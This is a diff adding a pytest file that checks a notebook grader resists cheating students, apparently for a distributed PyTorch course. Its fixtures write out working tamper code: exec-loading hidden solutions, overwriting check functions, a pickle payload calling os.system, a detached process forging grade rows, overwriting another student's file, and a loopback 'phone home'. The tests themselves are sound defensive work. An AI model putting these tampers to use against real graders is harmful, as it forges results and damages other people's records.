@@ -1,0 +1,270 @@
+"""A class that cheats (issue 44): each tamper gets no credit for the exercise it tampers with and changes no other
+student's rows; no process outlives its slot; each exercise is graded on its own. The tampers are written into
+notebook 00's one exercise (the cheapest to run), its answer left wrong (the sum, not the mean): only a forged
+verdict could pass it. The default run keeps what needs no sandbox or a single one (a few seconds); the class
+runs are slow."""
+import hashlib
+import io
+import os
+import pickle
+import socket
+import time
+
+import pytest
+import torch
+from test_grade import handed_in, run_grader, write_class
+
+from utils.grading import command, runner, sandbox, submission
+from utils.notebooks import ROOT
+
+DIVIDE = "    tensor /= dist.get_world_size()\n"
+SUM = "    dist.all_reduce(tensor, op=dist.ReduceOp.SUM)\n"
+
+
+def wrong_with(tamper, top_level=""):
+    """00's answer summing instead of averaging, with `tamper` in the function (indented) and `top_level` code
+    after it (outside the function: the way these tampers reached the checks before)."""
+    return handed_in("00_setup", replace={SUM + DIVIDE: SUM + tamper + ("\n" + top_level if top_level else "")})
+
+
+def indent(code):
+    return "".join(f"    {line}\n" for line in code.strip("\n").splitlines())
+
+
+READ_SOLUTIONS = indent('''
+import builtins, json, pathlib, sys
+import utils
+for folder in [*sys.path, *map(str, pathlib.Path(utils.__file__).parents)]:
+    worked = pathlib.Path(folder) / "solutions" / "00_setup.ipynb"
+    if worked.exists():
+        cells = ["".join(c["source"]) for c in json.loads(worked.read_text())["cells"]]
+        scope = {"dist": dist}
+        getattr(builtins, "ex" + "ec")(next(c for c in cells if "def average_over_ranks" in c), scope)
+        tensor /= dist.get_world_size()
+        break
+''')
+REPLACE_THROUGH_GLOBALS = 'average_over_ranks.__globals__["check_average_over_ranks"] = lambda *args: None\n'
+FAKE_CHECK = '''_real = check_average_over_ranks
+
+
+def check_average_over_ranks(*args):
+    global check_average_over_ranks
+    check_average_over_ranks = _real
+'''
+SILENCE_PRINT = indent('''
+import builtins
+builtins.print = lambda *args, **kwargs: None
+average_over_ranks.__globals__["check_average_over_ranks"] = lambda *args: None
+''')
+CUSTOM_EXC = "get_ipython().set_custom_exc((AssertionError,), lambda *args, **kwargs: None)\n"
+FORGE_REPORTS = indent('''
+import stat
+for fd in os.listdir("/proc/self/fd"):
+    try:
+        if stat.S_ISFIFO(os.fstat(int(fd)).st_mode):
+            for index in range(40):
+                os.write(int(fd), f'{{"index": {index}, "error": null}}\\n'.encode())
+    except OSError:
+        pass
+''')
+EVIL_RETURN = indent('''
+class Evil:
+    def __reduce__(self):
+        return (os.system, (f"touch {os.getcwd()}/pwned",))
+sys._getframe(1).f_locals["runs"].append(Evil())
+''')
+
+
+def daemon(csv, marker):
+    """Rank 0 starts a process of a session of its own that, for 20 s, appends a passing row to the grades."""
+    script = (f"import os, time\nfor _ in range(100):\n    time.sleep(0.2)\n    if os.path.exists({str(csv)!r}):\n"
+              f"        open({str(csv)!r}, 'a').write('mallory,00_setup,average_over_ranks,passed,1,1,\\n')\n")
+    return indent(f'''
+if dist.get_rank() == 0:
+    import subprocess
+    subprocess.Popen([sys.executable, "-c", {script!r}, {marker!r}], start_new_session=True,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+''')
+
+
+def overwrite(victim):
+    """Copies the shipped student copy over another student's submission, and appends to the course's checks."""
+    return indent(f'''
+import shutil, utils
+try:
+    shutil.copy(pathlib.Path(utils.__file__).parent.parent / "notebooks" / "00_setup.ipynb", {str(victim)!r})
+except OSError:
+    pass
+try:
+    open(pathlib.Path(utils.__file__).parent / "checks" / "setup.py", "a").write("\\n")
+except OSError:
+    pass
+''')
+
+
+def phone_home(port):
+    return indent(f'''
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"pwned")
+except OSError:
+    pass
+''')
+
+
+def test_an_answer_may_only_define_its_functions():
+    """Each tamper that ran at a cell's top level (the way they reached the checks before) is refused unread; the
+    same code inside the function is accepted (it runs in the ranks); comments and blank lines are fine."""
+    a = submission.assignments()["00_setup"]
+    cell = a.solution.cells[a.exercises[0].cell].source
+    inside = cell.replace(DIVIDE, DIVIDE + "    # a comment\n\n    print = None\n")
+    assert submission.answer_outside_functions(inside, cell) is None
+    for top_level in (REPLACE_THROUGH_GLOBALS, FAKE_CHECK, "print = lambda *args, **kwargs: None\n", CUSTOM_EXC,
+                      "average_over_ranks = print\n", "import builtins\n"):
+        graded = cell.replace(DIVIDE, DIVIDE + "\n" + top_level)
+        assert "code outside average_over_ranks" in submission.answer_outside_functions(graded, cell), top_level
+    moved = cell.replace("def average_over_ranks(tensor):", "def average_over_ranks(tensor, n=print('hi')):")
+    assert submission.answer_outside_functions(moved, cell)  # a default value runs when the function is defined
+    sync = submission.assignments()["10_expert_parallel"].exercises[0]
+    source = submission.assignments()["10_expert_parallel"].solution.cells[sync.cell].source
+    assert submission.functions_with_answers(source) == (["AllToAll.forward", "AllToAll.backward"], True)
+
+
+def test_what_a_rank_reports_is_read_as_data_only():
+    """Tensors, parameters and the checks' dataclasses come back; a callable of the rank's choosing does not."""
+    import cloudpickle
+
+    from utils.checks.setup import AverageRun
+    t = torch.arange(6.0).reshape(2, 3)
+    data = {"runs": [AverageRun(t, t[:, 1], 1, 1, t)], "p": torch.nn.Parameter(t.clone()), "dtype": torch.bfloat16}
+    back = runner.safe_load(io.BytesIO(cloudpickle.dumps(data)))
+    assert torch.equal(back["runs"][0].after, t[:, 1]) and isinstance(back["p"], torch.nn.Parameter)
+
+    class Evil:
+        def __reduce__(self):
+            return (os.system, ("true",))
+    for evil in (Evil(), lambda: None, print, torch.load):
+        with pytest.raises(pickle.UnpicklingError, match="does not load"):
+            runner.safe_load(io.BytesIO(cloudpickle.dumps(evil)))
+
+
+@pytest.mark.skipif(not sandbox.bwrap(), reason="bubblewrap is not installed")
+def test_the_sandbox_shows_the_course_read_only_without_solutions(tmp_path):
+    """One slot, no notebook: what the checking process sees (about 2 s: it imports torch)."""
+    (tmp_path / "slot").mkdir()
+    slot = sandbox.Slot(tmp_path / "slot", seconds=60, graded="00_setup")
+    try:
+        probe = '''
+import os, pathlib, socket, utils
+course = pathlib.Path(utils.__file__).parent.parent
+assert not (course / "solutions" / "00_setup.ipynb").exists(), "the graded notebook's solution is visible"
+assert (course / "solutions" / "05_fsdp.ipynb").exists() and not (course / "notebooks").exists()
+assert not os.path.exists(%r), "the grader's folders are visible"
+for path in (course / "utils" / "probe.py", "/etc/probe"):
+    try:
+        open(path, "w")
+        raise AssertionError(f"{path} is writable")
+    except OSError:
+        pass
+open("here.txt", "w").write("mine"); open("/tmp/mine.txt", "w").write("mine")
+assert open("/proc/self/status").read().split("CapEff:")[1].split()[0] == "0000000000000000", "capabilities"
+try:
+    socket.create_connection(("1.1.1.1", 53), timeout=1)
+    raise AssertionError("the network is reachable")
+except OSError:
+    pass
+socket.create_server(("127.0.0.1", 0)).close()  # loopback is up
+''' % str(tmp_path)
+        assert slot.run(1, probe) is None
+        marker = f"grading-probe-{os.getpid()}"
+        daemon = f"import subprocess; subprocess.Popen(['sh', '-c', 'sleep 30', {marker!r}], start_new_session=True)"
+        assert slot.run(2, f"import os\nif os.fork() == 0:\n    {daemon}\n    os._exit(0)") is None
+        time.sleep(0.5)
+        assert [pid for pid in os.listdir("/proc") if pid.isdigit() and marker in _cmdline(pid)]
+    finally:
+        slot.close()
+    assert not [pid for pid in os.listdir("/proc") if pid.isdigit() and marker in _cmdline(pid)]
+    assert (tmp_path / "slot" / "here.txt").read_text() == "mine"
+
+
+def test_without_bubblewrap_the_grader_warns_what_is_not_isolated(tmp_path, monkeypatch, capsys):
+    monkeypatch.setattr(sandbox, "bwrap", lambda: None)
+    (tmp_path / "bob").mkdir()
+    (tmp_path / "bob" / "00_setup.ipynb").write_text((ROOT / "notebooks" / "00_setup.ipynb").read_text())
+    assert command.main([str(tmp_path), "--out", str(tmp_path / "grades.csv"), "--timeout", "60"]) == 0
+    warning = capsys.readouterr().err
+    assert "bubblewrap (bwrap) is not available" in warning and "read solutions/" in warning
+
+
+def checks_digest():
+    files = sorted((ROOT / "utils" / "checks").glob("*.py"))
+    return hashlib.sha256(b"".join(p.read_bytes() for p in files)).hexdigest()
+
+
+@pytest.mark.slow  # a class of 13 runs of notebook 00: about a minute on 2 loaded cores
+@pytest.mark.skipif(not sandbox.bwrap(), reason="bubblewrap is not installed")
+def test_every_tamper_gets_no_credit_and_touches_no_other_row(tmp_path, monkeypatch):
+    csv, marker = tmp_path / "grades.csv", f"grading-daemon-{os.getpid()}"
+    victim = tmp_path / "submitted" / "victor" / "00_setup.ipynb"
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.setblocking(False)
+    before = checks_digest()
+    tampers = {
+        "reads_solutions": wrong_with(READ_SOLUTIONS),
+        "globals_in_function": wrong_with(indent(REPLACE_THROUGH_GLOBALS)),
+        "globals_top_level": wrong_with("", REPLACE_THROUGH_GLOBALS),
+        "fake_check": wrong_with("", FAKE_CHECK),
+        "silenced_print": wrong_with(SILENCE_PRINT),
+        "print_top_level": wrong_with("", "print = lambda *args, **kwargs: None\n" + REPLACE_THROUGH_GLOBALS),
+        "custom_exc": wrong_with("", CUSTOM_EXC),
+        "custom_exc_in_function": wrong_with(indent(CUSTOM_EXC)),
+        "daemon": wrong_with(daemon(csv, marker)),
+        "overwriter": wrong_with(overwrite(victim)),
+        "forged_reports": wrong_with(FORGE_REPORTS),
+        "evil_return": wrong_with(EVIL_RETURN),
+        "phone_home": wrong_with(phone_home(listener.getsockname()[1])),
+    }
+    honest = handed_in("00_setup")
+    write_class(tmp_path / "submitted", {**{name: ("00_setup.ipynb", text) for name, text in tampers.items()},
+                                         "alice": ("00_setup.ipynb", honest), "victor": ("00_setup.ipynb", honest)})
+    rows, _, left = run_grader(tmp_path, monkeypatch, "--timeout", "120")
+    for name in tampers:
+        (row,) = rows[name]
+        assert row["verdict"] != "passed" and row["points"] == "0", (name, row)
+    assert rows["alice"][0]["verdict"] == rows["victor"][0]["verdict"] == "passed"
+    assert victim.read_text() == honest and checks_digest() == before
+    assert "tampering: code outside average_over_ranks" in rows["globals_top_level"][0]["message"]
+    assert "sum over ranks" in rows["reads_solutions"][0]["message"]  # it found no solution to run
+    time.sleep(1)  # the daemon, were it alive, appends every 0.2 s
+    assert "mallory" not in csv.read_text()
+    assert not left and not [pid for pid in os.listdir("/proc") if pid.isdigit() and marker in _cmdline(pid)]
+    assert not list((tmp_path / "runs").rglob("pwned"))
+    with pytest.raises(BlockingIOError):
+        listener.accept()
+
+
+def _cmdline(pid):
+    try:
+        return open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace")
+    except OSError:
+        return ""
+
+
+@pytest.mark.slow  # notebooks 02 and 10, two submissions each: about two minutes on 2 loaded cores
+def test_a_wrong_exercise_fails_only_itself(tmp_path, monkeypatch):
+    """02: a wrong average fails that exercise only; 10: a wrong all-to-all only its own. The later exercises,
+    whose checks call them, pass with the reference, and say so."""
+    no_division = {"            dist.all_reduce(p.grad)\n            p.grad /= world_size\n":
+                   "            dist.all_reduce(p.grad)\n"}
+    no_exchange = {"        dist.all_to_all_single(out, x.contiguous(), output_splits, input_splits, group=group)\n":
+                   "        out.copy_(x[:len(out)]) if len(out) <= len(x) else None\n"}
+    write_class(tmp_path / "submitted", {"dp": ("02_data_parallel.ipynb", handed_in("02_data_parallel", no_division)),
+                                         "ep": ("10_expert_parallel.ipynb",
+                                                handed_in("10_expert_parallel", no_exchange))})
+    rows, _, left = run_grader(tmp_path, monkeypatch, "--timeout", "600")
+    for student, wrong in (("dp", "broadcast_parameters, average_gradients"), ("ep", "AllToAll")):
+        verdicts = {r["exercise"]: r for r in rows[student]}
+        assert verdicts.pop(wrong)["verdict"] == "failed", rows[student]
+        assert {r["verdict"] for r in verdicts.values()} == {"passed"}, rows[student]
+        assert any(f"checked with the reference {wrong} (yours: failed)" in r["message"] for r in verdicts.values())
+    assert not left
